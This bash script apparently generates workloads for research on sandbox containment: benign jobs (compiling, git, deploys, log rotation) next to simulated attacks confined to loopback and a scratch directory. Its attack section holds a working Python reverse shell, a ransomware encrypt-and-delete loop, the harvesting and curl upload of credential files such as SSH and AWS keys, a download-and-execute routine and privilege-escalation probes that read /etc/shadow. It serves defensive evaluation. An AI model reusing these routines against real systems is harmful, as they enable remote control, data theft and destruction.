#!/bin/bash
# Workloads of the adaptive-containment corpus, run INSIDE the sandbox as
# an unprivileged user:   workloads.sh NAME WORKDIR SIZE PORT
#
# WORKDIR is a private scratch directory (its home/ is the fake $HOME);
# SIZE (the repetition: 1..BENIGN_REPS or 1..ATTACK_REPS of gen-corpus.sh)
# varies the amount of work between runs; PORT is the loopback
# peer (HTTP server, or the reverse-shell listener) started by the
# generator outside the sandbox.
#
# Attack behaviours are reproduced SAFELY: every file they touch is under
# WORKDIR, every connection goes to 127.0.0.1, every loop is bounded in
# count and time.  Each attack records in WORKDIR/harm how far it got, so
# the evaluation can tell whether the harmful step completed.
set -u
# "setup" prepares a run's pre-existing data OUTSIDE the sandbox (the
# user's documents, the fake $HOME's credential stores): what an attack
# destroys or steals exists before it starts, as in real life.
if [ "$1" = setup ]; then
	name=$2 work=$3 size=$4
	cd "$work" || exit 1
	case $name in
	compile-c)
		# an existing checkout with stale objects from an earlier build
		# (4..27 of them, spread over the sizes rather than growing with them)
		mkdir -p proj
		for i in $(seq $((size * 7 % 24 + 4))); do echo "stale $i" > proj/f$i.o; done
		echo stale > proj/prog
		;;
	pkg-churn)
		# version 0 of the "package" is installed; the run upgrades it
		mkdir -p prefix/lib prefix/share
		for i in $(seq $((size * 8))); do
			echo "old lib $i" > prefix/lib/m$i.so; echo "old doc $i" > prefix/share/m$i.txt
		done
		for i in $(seq 4); do echo "obsolete $i" > prefix/share/obsolete$i.txt; done
		;;
	cleanup)
		# an old build tree and caches, to be thrown away
		for d in $(seq $((size + 2))); do
			mkdir -p build/obj$d cache/c$d
			for i in $(seq 12); do
				echo "object $d $i" > build/obj$d/f$i.o
				echo "cache $d $i" > cache/c$d/e$i.tmp
			done
		done
		;;
	pkg-remove)
		# an installed "package": its files, the dpkg-like file list and
		# status database, all from an earlier install
		mkdir -p root/var/lib/dpkg/info
		for d in bin lib share/doc share/man; do mkdir -p root/usr/$d/pkg; done
		for i in $(seq $((size * 12))); do
			for d in bin lib share/doc share/man; do
				[ $((i % 4)) = 0 ] && [ $d = bin ] && continue
				echo "pkg file $d $i" > root/usr/$d/pkg/f$i
				echo "/usr/$d/pkg/f$i" >> root/var/lib/dpkg/info/pkg.list
			done
		done
		for p in pkg other1 other2; do printf 'Package: %s\nStatus: install ok installed\n\n' $p; done \
			> root/var/lib/dpkg/status
		echo md5 > root/var/lib/dpkg/info/pkg.md5sums
		;;
	git-many)
		# a checkout with many files and two branches, loose objects from
		# earlier work (the run switches branches and runs git gc)
		mkdir -p repo
		(cd repo && git init -q -b master . &&
		 for i in $(seq $((size * 15))); do echo "file $i v1" > f$i.txt; done &&
		 git add -A && git -c user.name=c -c user.email=c@localhost commit -qm v1 &&
		 git checkout -qb v2 &&
		 for i in $(seq $((size * 15))); do
			case $((i % 3)) in 0) git rm -q f$i.txt;; 1) echo "file $i v2" >> f$i.txt;; esac
		 done &&
		 for i in $(seq $((size * 5))); do echo "new $i" > n$i.txt; done &&
		 git add -A && git -c user.name=c -c user.email=c@localhost commit -qm v2 &&
		 git checkout -q master)
		mkdir -p home && printf '[user]\n\tname = corpus\n\temail = corpus@localhost\n' > home/.gitconfig
		;;
	deploy)
		# the running release and the new release's tarball, downloaded earlier
		mkdir -p app/lib app/static rel/lib rel/static
		for i in $(seq $((size * 10))); do
			echo "old code $i" > app/lib/m$i.py; echo "old asset $i" > app/static/a$i.css
			head -c $((300 + i * 40)) /usr/share/common-licenses/GPL-2 > rel/lib/m$i.py
			echo "new asset $i" > rel/static/a$i.css
		done
		tar -czf release.tgz -C rel . && rm -rf rel
		;;
	log-gzip)
		# logrotate's job: yesterday's logs, compressed one file at a time
		mkdir -p logs
		for i in $(seq $((size / 2 + 1))); do
			head -c $((4000 + i * 300)) /usr/share/common-licenses/GPL-3 > logs/app$i.log.1
		done
		;;
	shell-script)
		# old logs to rotate away
		mkdir -p logs
		for i in $(seq $((size + 2))); do echo "log $i" > logs/old-$i.log; done
		;;
	ransomware)
		mkdir -p victim/docs victim/photos
		for i in $(seq $((size * 10 + 10))); do
			head -c $((1024 + i * 37)) /usr/share/common-licenses/GPL-3 > victim/docs/d$i.txt
		done
		for i in $(seq 5); do head -c 4096 /usr/share/common-licenses/Apache-2.0 > victim/photos/p$i.jpg; done
		;;
	harvest-upload)
		mkdir -p home/.ssh home/.aws home/.gnupg home/.config/gcloud
		echo "-----BEGIN FAKE KEY----- $size" > home/.ssh/id_rsa
		echo "ssh-rsa AAAAfake" > home/.ssh/id_rsa.pub; echo "host" > home/.ssh/known_hosts
		printf '[default]\naws_access_key_id = FAKE\n' > home/.aws/credentials
		echo "machine x login y password z" > home/.netrc
		echo "fake" > home/.gnupg/secring.gpg; echo "{}" > home/.config/gcloud/credentials.db
		for i in $(seq $((size * 3))); do echo "history $i" >> home/.bash_history; done
		;;
	esac
	# the user's data is old, not made a second before the attack
	find . -mindepth 1 -exec touch -h -d '-2 days' {} +
	exit 0
fi
name=$1 work=$2 size=$3 port=$4
PY=/usr/bin/python3
export HOME=$work/home LC_ALL=C PATH=/usr/bin:/bin
cd "$work" || exit 1
harm() { echo "$*" >> "$work/harm"; }

case $name in
# ---------------------------------------------------------------- benign
shell-script)
	mkdir -p txt
	for i in $(seq $((size * 6))); do
		seq $((i * 50)) | awk '{print $1 * 7 % 13, "line", $1}' > txt/f$i.txt
	done
	for f in txt/*.txt; do sort -n "$f" | uniq -c | sed 's/line/LINE/' | grep -c LINE >> counts; done
	wc -l counts > summary
	ls txt/*.txt | xargs -P $((size % 8 + 1)) -n 2 md5sum > sums
	cat logs/old-*.log > logs/archive.txt && rm -f logs/old-*.log
	;;
compile-c)
	mkdir -p proj && cd proj
	rm -f ./*.o prog            # make clean
	n=$((size + 3))
	for i in $(seq $n); do
		printf 'int f%d(int x) { int s = 0; for (int i = 0; i < x; i++) s += i * %d; return s; }\n' "$i" "$i" > f$i.c
	done
	{ echo '#include <stdio.h>'; for i in $(seq $n); do echo "int f$i(int);"; done
	  echo 'int main(void) { long s = 0;'; for i in $(seq $n); do echo "s += f$i(10);"; done
	  echo 'printf("%ld\n", s); return 0; }'; } > main.c
	printf 'OBJ := $(patsubst %%.c,%%.o,$(wildcard *.c))\nprog: $(OBJ)\n\tgcc -o $@ $^\n%%.o: %%.c\n\tgcc -O1 -c $<\n' > Makefile
	# parallel builds are ordinary: up to 8 compilers at once
	make -s -j$((size % 8 + 1)) >/dev/null && ./prog > out.txt
	;;
python-script)
	$PY - "$size" <<'EOF'
import json, os, sys, hashlib
n = int(sys.argv[1]) * 20
os.makedirs("data", exist_ok=True)
for i in range(n):
    with open("data/r%d.json" % i, "w") as f:
        json.dump({"i": i, "sq": [j * j for j in range(i % 50)]}, f)
tot = 0
for i in range(n):
    with open("data/r%d.json" % i) as f:
        tot += sum(json.load(f)["sq"])
with open("result.txt", "w") as f:
    f.write("%d %s\n" % (tot, hashlib.sha256(str(tot).encode()).hexdigest()))
EOF
	;;
tar-gzip)
	mkdir -p src out
	for i in $(seq $((size * 10))); do head -c $((2048 * i)) /usr/share/common-licenses/GPL-3 > src/doc$i; done
	tar -cf a.tar src && gzip -f a.tar && tar -C out -xzf a.tar.gz && gzip -dc a.tar.gz | sha256sum > sum
	;;
git-ops)
	mkdir -p home repo && printf '[user]\n\tname = corpus\n\temail = corpus@localhost\n' > home/.gitconfig
	cd repo && git init -q .
	for i in $(seq $((size + 2))); do
		echo "change $i" >> file$((i % 3)).txt
		git add -A && git commit -qm "commit $i"
	done
	git checkout -qb topic && echo topic > t.txt && git add t.txt && git commit -qm topic
	git checkout -q - && git merge -q --no-edit topic && git log --oneline | wc -l > ../commits
	;;
cleanup)
	# `make clean` / cache pruning: many pre-existing files deleted, nothing
	# written in their place (what ransomware does not look like)
	find cache -name '*.tmp' -delete
	rm -rf build
	mkdir -p build && echo "clean" > build/.stamp
	;;
http-client)
	# a client that talks to a local server: many connections, downloads
	for i in $(seq $((size * 3))); do
		curl -s -o page$i.html "http://127.0.0.1:$port/index.html" || true
	done
	curl -s -o big.bin "http://127.0.0.1:$port/big.bin" || true
	cat page*.html | wc -c > bytes
	;;
pkg-churn)
	# dpkg/pip-like: unpack to temp names, rename into place, drop old files
	mkdir -p prefix/lib prefix/share staging
	for v in 1 2; do
		for i in $(seq $((size * 8))); do
			head -c $((512 + i * 64)) /usr/share/common-licenses/GPL-2 > staging/m$i.so.new
			mv staging/m$i.so.new prefix/lib/m$i.so
			echo "pkg $v file $i" > prefix/share/m$i.txt
		done
		echo "version $v" > prefix/VERSION
	done
	rm -f prefix/share/m1.txt prefix/share/m2.txt prefix/share/obsolete*.txt
	find prefix -type f | sort > manifest
	;;
pkg-remove)
	# dpkg --remove: delete every listed file, prune empty directories,
	# rewrite the status database (temp file + rename), drop the info files
	cd root || exit 1
	sed 's,^/,,' var/lib/dpkg/info/pkg.list | xargs rm -f
	find usr -depth -type d -empty -delete
	awk 'BEGIN { RS = ""; ORS = "\n\n" } !/Package: pkg\n/' var/lib/dpkg/status > var/lib/dpkg/status-new
	mv var/lib/dpkg/status-new var/lib/dpkg/status
	rm -f var/lib/dpkg/info/pkg.*
	;;
git-many)
	# switch to the other branch (git deletes and rewrites tracked files),
	# look around, pack the loose objects, switch back
	cd repo || exit 1
	git checkout -q v2 && git status --short | wc -l > ../status && git log --oneline > ../log
	git gc -q --prune=now
	git checkout -q master && git diff --stat master v2 | tail -1 > ../diffstat
	;;
deploy)
	# unpack the new release next to the old one, swap, delete the old one
	mkdir -p staging && tar -C staging -xzf release.tgz
	mv app app.old && mv staging app
	rm -rf app.old
	find app -type f | sort | xargs md5sum > manifest
	;;
log-gzip)
	# compress each rotated log (gzip writes log.1.gz and removes log.1)
	for f in logs/*.log.1; do gzip -9 "$f"; done
	echo "rotated $(ls logs | wc -l)" > rotate.status
	;;
# --------------------------------------------------------------- attacks
reverse-shell)
	# connect back to the "attacker" on 127.0.0.1 and serve it a shell
	$PY - "$port" <<'EOF'
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
os.execv("/bin/sh", ["sh", "-i"])
EOF
	;;
ransomware)
	# mass encrypt-and-rename of the victim tree (set up beforehand,
	# inside WORKDIR only)
	harm "start"
	find victim -type f ! -name '*.locked' | while read -r f; do
		openssl enc -aes-256-cbc -pbkdf2 -pass pass:corpus -in "$f" -out "$f.locked" 2>/dev/null &&
			rm -f "$f" && harm "encrypted"
	done
	echo "your files are encrypted (corpus test)" > victim/README-RANSOM.txt
	;;
harvest-upload)
	# collect the fake $HOME's credential stores, then exfiltrate them
	mkdir -p loot
	for f in home/.ssh/id_rsa home/.ssh/id_rsa.pub home/.ssh/known_hosts home/.aws/credentials \
		 home/.netrc home/.gnupg/secring.gpg home/.config/gcloud/credentials.db home/.bash_history; do
		cat "$f" >> loot/all.txt
	done
	tar -czf loot.tgz loot
	if curl -s --data-binary @loot.tgz "http://127.0.0.1:$port/upload" >/dev/null; then
		harm "uploaded"
	fi
	;;
download-exec)
	# fetch "payloads" (a binary and a script) from the local server into
	# /tmp-like scratch and run them
	mkdir -p tmp
	for i in $(seq $((size % 3 + 1))); do
		if curl -s -o tmp/implant$i "http://127.0.0.1:$port/payload.bin"; then
			chmod +x tmp/implant$i && ./tmp/implant$i > tmp/out$i && harm "executed"
		fi
		if curl -s -o tmp/payload$i.sh "http://127.0.0.1:$port/payload.sh"; then
			chmod +x tmp/payload$i.sh && ./tmp/payload$i.sh "$work" && harm "executed"
		fi
	done
	;;
fork-storm)
	# bounded: at most 200 + 50*SIZE short-lived processes, 10 s
	n=$((200 + size * 50)); end=$((SECONDS + 10))
	last=
	for i in $(seq $n); do
		[ $SECONDS -ge $end ] && break
		sleep 0.2 2>/dev/null &
		# $! only changes when the fork succeeded
		if [ "$!" != "$last" ]; then last=$!; harm "forked"; fi
	done
	wait
	;;
priv-probe)
	# privilege-escalation probing as an unprivileged user (all fail)
	$PY - <<'EOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0),
          lambda: os.setreuid(0, 0), lambda: os.setgroups([0])):
    for _ in range(3):
        try: f()
        except OSError: pass
for _ in range(3):
    libc.ptrace(16, 1, 0, 0)            # PTRACE_ATTACH to init
    libc.syscall(321, 0, 0, 0)          # bpf()
    libc.syscall(250, 0, 0, 0, 0, 0)    # keyctl()
    libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)
    libc.syscall(272, 0x00020000)       # unshare(CLONE_NEWNS)
EOF
	find /usr/bin /usr/sbin -perm -4000 -type f 2>/dev/null | head -20 > suid.txt
	cat /etc/shadow 2>/dev/null; cat /etc/sudoers 2>/dev/null
	sudo -n true 2>/dev/null; su -c true 2>/dev/null </dev/null
	harm "probed"
	;;
*)
	echo "unknown workload $name" >&2
	exit 2
	;;
esac
exit 0
